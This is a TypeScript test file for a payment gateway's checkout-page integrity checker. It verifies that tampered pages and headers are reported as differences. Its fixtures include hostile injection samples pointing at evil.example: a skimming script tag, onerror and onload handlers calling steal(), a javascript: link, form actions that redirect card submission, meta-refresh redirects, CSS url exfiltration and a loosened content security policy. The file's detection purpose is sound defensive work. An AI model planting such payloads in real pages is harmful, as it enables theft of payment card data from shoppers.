import { describe, expect, test } from "vitest";
import { html, type Language } from "@holdfast/html";
import type { CheckoutPage } from "@holdfast/contracts";
import { loadPageAssets } from "../public-pages/checkout/page-assets.ts";
import { renderClosed, renderNotice, renderWaiting } from "../public-pages/checkout/render-checkout.ts";
import { renderForm } from "../public-pages/checkout/render-form.ts";
import { renderPage, type Onward } from "../public-pages/checkout/render-page.ts";
import { PAGE_TEXTS } from "../public-pages/checkout/page-texts.ts";
import { htmlLines } from "./html-lines.ts";
import { compareAsset, comparePage, type Received } from "./compare-page.ts";
import { describeRelease } from "./page-release.ts";

const NONCE = "AAAAAAAAAAAAAAAAAAAAAA==";
const PATH = "/gateway/checkout/1";
const ORIGIN = "https://pay.example";
const release = describeRelease();
const assets = loadPageAssets(`${ORIGIN}/gateway`);
const merchantName = "Ada's Lamps";

const CHECKOUT: CheckoutPage = {
  checkoutId: "019a0000-0000-7000-8000-000000000001",
  merchantId: "019a0000-0000-7000-8000-000000000002",
  status: "OPEN",
  orderId: "order-1",
  amountMinor: "1250",
  currency: "TRY",
  installmentOptions: [1],
  successUrl: "https://shop.example/done",
  failureUrl: "https://shop.example/no",
  expiresAt: "2026-11-20T12:30:00.000Z",
  attemptsLeft: 3,
};

type Shown = Partial<CheckoutPage> & {
  language?: Language;
  branding?: typeof BRANDING;
  region?: string;
  isTest?: boolean;
};

const FORM = {
  paymentId: "019a0000-0000-7000-8000-000000000003",
  token: "c2lnbmVkIGJ5IHRoZSBnYXRld2F5IGl0c2VsZg",
  faults: [],
};
const shownOf = ({ language = "en", region, ...change }: Shown) => ({
  checkout: { ...CHECKOUT, ...change },
  merchantName,
  locale: { language, locale: region ?? language },
  path: PATH,
});

function pageOf(shown: Shown, content: Parameters<typeof renderPage>[1], how: Onward = {}): string {
  const { locale } = shownOf(shown);
  return renderPage(
    {
      assets,
      locale,
      nonce: NONCE,
      path: PATH,
      merchantName,
      branding: shown.branding,
      isTest: shown.isTest ?? false,
    },
    content,
    how,
  );
}

/** The page of an open checkout. */
const open = (shown: Shown = {}) => pageOf(shown, renderForm(shownOf(shown), FORM), { withCardForm: true });

function received(change: { headers?: Record<string, string>; body?: string } = {}): Received {
  const headers = Object.entries(release.headers).map(([name, value]) => [
    name,
    value.replaceAll("{nonce}", NONCE).replaceAll("{base}", "/gateway"),
  ]);
  return {
    url: `${ORIGIN}${PATH}?lang=en`,
    headers: {
      ...Object.fromEntries(headers),
      date: "now",
      "x-request-id": "1",
      "strict-transport-security": "max-age=31536000",
      ...change.headers,
    },
    body: change.body ?? open(),
  };
}

const compare = (body: string, options: Parameters<typeof comparePage>[2] = {}) =>
  comparePage(received({ body }), release, options).differences;

const BRANDING = {
  name: merchantName,
  color: "#7a1f5c",
  logo: '<svg viewBox="0 0 24 24"><path d="M4 4h16v16H4z" fill="#7a1f5c"/></svg>',
};

test("a merchant's colour and logo are no difference, and whatever else is done by them is one", () => {
  const branded = open({ branding: BRANDING });
  expect(compare(branded)).toEqual([]);
  for (const [ours, theirs] of [
    ["--on-accent:#ffffff", "--on-accent:url(//evil.example)"],
    ["</style>", "input{background:url(//evil.example)}</style>"],
    ["</style>", `</style><style nonce="${NONCE}">p{}</style>`],
    ["</style>", `</style>${/<style [^]*?<\/style>/.exec(branded)![0]}`],
    ["<path", '<path onclick="steal()"'],
    ["</svg>", '<image href="//evil.example" /></svg>'],
    ["</svg>", `</svg>${/<svg class="brand-logo"[^]*?<\/svg>/.exec(branded)![0]}`],
  ] as const) {
    expect(branded).toContain(ours);
    expect(compare(branded.replace(ours, theirs)), theirs).not.toEqual([]);
  }
});

describe("a page of this version has no difference:", () => {
  const shop = "https://shop.example/done?order=1&paid=1";
  const payment = (resultCode: string) => ({ resultCode }) as CheckoutPage["payment"];
  test.each<[string, Shown]>([
    ["an open checkout", {}],
    ["one of test mode", { isTest: true }],
    ["one of a link", { description: 'A "lamp" & <more>', failureUrl: undefined }],
    ["one whose buyers pay for installments", { installmentOptions: [1, 3, 6], installmentPrices: true }],
    ["one with installments", { installmentOptions: [1, 2, 3, 12], amountMinor: "100000" }],
    ["one whose card was declined", { payment: payment("51"), attemptsLeft: 2 }],
    [
      "one with one more try, declined for the bank's own reason",
      { payment: payment("05"), attemptsLeft: 1 },
    ],
    ["one in another currency", { currency: "KWD", region: "en-IN", installmentOptions: [1, 3] }],
  ])("%s", (_which, shown) => {
    for (const language of ["en", "tr"] as const)
      expect(compare(open({ ...shown, language }), { language })).toEqual([]);
  });

  test("one under way, with and without a challenge", () => {
    const waiting = (challengeUrl?: string) =>
      compare(
        pageOf({}, renderWaiting(shownOf({ ...(challengeUrl && { challengeUrl }) })), { refreshSeconds: 5 }),
      );
    expect(waiting()).toEqual([]);
    expect(waiting(`${ORIGIN}/gateway/3ds/1/abc-_`)).toEqual([]);
    expect(waiting("https://evil.example/3ds/1/abc")).not.toEqual([]);
    expect(waiting(`${ORIGIN}.evil.example/gateway/3ds/1`)).not.toEqual([]);
  });

  test.each(["COMPLETED", "EXPIRED", "CANCELLED"] as const)("one that is %s", (status) => {
    const closed = (url?: string, onwardUrl?: string) =>
      pageOf({}, renderClosed(shownOf({ status, ...(!url && { failureUrl: undefined }) }), url), {
        onwardUrl,
      });
    const shops = ["https://shop.example"];
    expect(compare(closed())).toEqual([]);
    expect(compare(closed(shop), { shops })).toEqual([]);
    expect(compare(closed(shop, shop), { shops })).toEqual([]);
    expect(compare(closed(shop, shop.replace("done", "copy")), { shops })).not.toEqual([]);
    expect(compare(closed(shop))).not.toEqual([]);
    expect(compare(closed("https://shop.example.evil.example/"), { shops })).not.toEqual([]);
    expect(compare(closed("https://shop.example@evil.example/"), { shops })).not.toEqual([]);
  });

  test("the page of a checkout that does not exist", () => {
    const texts = PAGE_TEXTS.en;
    const content = renderNotice(texts.notFoundHeading, texts.notFoundText);
    expect(
      compare(
        renderPage({ assets, locale: { language: "en", locale: "en" }, nonce: NONCE, path: PATH }, content),
      ),
    ).toEqual([]);
  });
});

test("a page in another language than was asked for is a difference", () => {
  expect(compare(open({ language: "tr" }), { language: "en" })).not.toEqual([]);
});

describe("a page that is replaced or changed is a difference that says what:", () => {
  const pay = `action="${PATH}/pay?lang=en"`;
  test.each([
    [
      "the form is a link",
      /<form id="card-form"[^]*?<\/form>/,
      '<a href="https://evil.example">Pay</a>',
      "https://evil.example",
    ],
    ["the form goes elsewhere", pay, 'action="https://evil.example"', "https://evil.example"],
    [
      "the form goes elsewhere, and says ours",
      pay,
      `action=https://evil.example data-${pay}`,
      "https://evil.example",
    ],
    [
      "the form goes to another page of ours",
      pay,
      'action="/gateway/checkout/2/pay?lang=en"',
      "/checkout/2/pay",
    ],
    ["a second form", "</main>", `<form method="post" ${pay}><input name="pan" /></form></main>`, "<form"],
    ["a field that is renamed", 'name="pan"', 'name="pan2"', "pan2"],
    ["a field that is missing", /<input id="cvv"[^>]*>/, "", 'id="cvv"'],
    ["a field more", '<input id="cvv"', '<input name="pin" /><input id="cvv"', 'name="pin"'],
    ["an image", "</main>", '<img src="https://evil.example/a.png" /></main>', "<img"],
    ["another text", "Card details", "Card details and PIN", "PIN"],
    ["another amount on the button", /Pay TRY\u00a012.50|Pay ₺12.50/g, "Pay ₺9.00", "9.00"],
    ["another shop's name in one place", `return to Ada&#39;s Lamps`, "return to Eve", "Eve"],
    ["a comment", "</main>", "<!-- --></main>", "<!--"],
    ["a way onward", "<main>", '<main data-onward="https://evil.example/">', "https://evil.example"],
    [
      "a reload to elsewhere",
      "</head>",
      '<noscript><meta http-equiv="refresh" content="0;url=//evil.example" /></noscript></head>',
      "evil.example",
    ],
    ["a text behind its end", "</html>", "</html>Call 555-0100", "555-0100"],
  ])("%s", (_case, ours, theirs, said) => {
    const page = htmlLines(open()).join("\n");
    const changed = page.replace(ours, theirs);
    expect(changed).not.toBe(page);
    const differences = compare(changed);
    expect(differences.map((each) => `${each.released} ${each.received}`).join("\n")).toContain(said);
  });

  test("a nonce that is not the policy's", () => {
    expect(compare(open().replaceAll(NONCE, "BBBBBBBBBBBBBBBBBBBBBB=="))).not.toEqual([]);
  });

  test("a page of something else altogether", () => {
    const [difference] = compare(`<html><a href="https://evil.example">${"<p>".repeat(5_000)}`);
    expect(difference?.received).toContain("https://evil.example");
    expect(compare("")).toHaveLength(1);
    expect(compare(pageOf({}, html``))).not.toEqual([]);
  });
});

describe("a change on the way is a difference:", () => {
  const named = (headers: Record<string, string>) =>
    comparePage(received({ headers }), release).differences.map(({ what }) => what);
  const policy = received().headers["content-security-policy"]!;
  test.each([
    [
      "a policy that allows more",
      { "content-security-policy": policy.replace("script-src", "script-src *") },
    ],
    ["no policy", { "content-security-policy": "" }],
    ["a second policy", { "content-security-policy": `${policy}, default-src *` }],
    [
      "a policy that reports to somebody else",
      { "content-security-policy": policy.replace("/csp", "//evil.example/csp") },
    ],
  ])("%s", (_case, headers) => {
    expect(named(headers)).toContain("header content-security-policy");
  });

  test.each([
    ["a cookie", { "set-cookie": "a=b" }, "header set-cookie"],
    ["a preload", { link: "<https://evil.example/a.js>; rel=preload" }, "header link"],
    ["a cache", { age: "10" }, "header age"],
    ["frames", { "x-frame-options": "SAMEORIGIN" }, "header x-frame-options"],
    ["no TLS from now on", { "strict-transport-security": "max-age=0" }, "header strict-transport-security"],
  ])("%s", (_case, headers, what) => {
    expect(named(headers)).toEqual([what]);
  });

  test.each([
    ["a script", '<script src="https://evil.example/skim.js"></script>'],
    ["a script in capitals with our nonce", `<SCRIPT nonce="${NONCE}">steal()</SCRIPT>`],
    ["a script that never ends", "<script src=//evil.example"],
    ["a script behind a tag that looks like its attribute", '<script data-a="<" src="//evil.example">'],
    ["our script once more", /<script[^]+?<\/script>/.exec(open())![0]],
    ["a frame", '<iframe src="https://evil.example"></iframe>'],
    ["a handler", '<img src="x" onerror="steal()">'],
    ["a handler behind a slash", "<svg/onload=steal()>"],
    ["another base", '<base href="https://evil.example/">'],
    ["a way to somewhere else", '<meta http-equiv="refresh" content="0;url=https://evil.example">'],
    ["a script's address", '<a href="javascript:steal()">'],
    ["a button that sends the card elsewhere", '<button formaction="https://evil.example">'],
  ])("%s", (_case, added) => {
    expect(compare(open().replace("</body>", `${added}</body>`))).toEqual([
      expect.objectContaining({ received: expect.stringContaining(added.trim().slice(0, 7)) }),
    ]);
  });

  test("a script without its digest, and one that is missing", () => {
    expect(compare(open().replaceAll(/integrity="[^"]+"/g, ""))).toHaveLength(1);
    expect(compare(open().replace(/<script[^]+?<\/script>/, ""))).toHaveLength(1);
  });
});

test("a file is compared by its bytes and its headers", () => {
  const [script] = release.assets;
  const { body } = assets.script;
  const url = `https://pay.example${assets.script.href}`;
  const headers = { ...script!.headers, "strict-transport-security": "max-age=31536000" };
  expect(compareAsset({ url, headers, body }, script!)).toEqual([]);
  const changed = compareAsset(
    { url, headers: { ...headers, "content-type": "text/html" }, body: `${body} ` },
    script!,
  );
  expect(changed.map(({ what }) => what)).toEqual([
    `SHA-256 of ${script!.path}`,
    `header content-type of ${script!.path}`,
  ]);
});
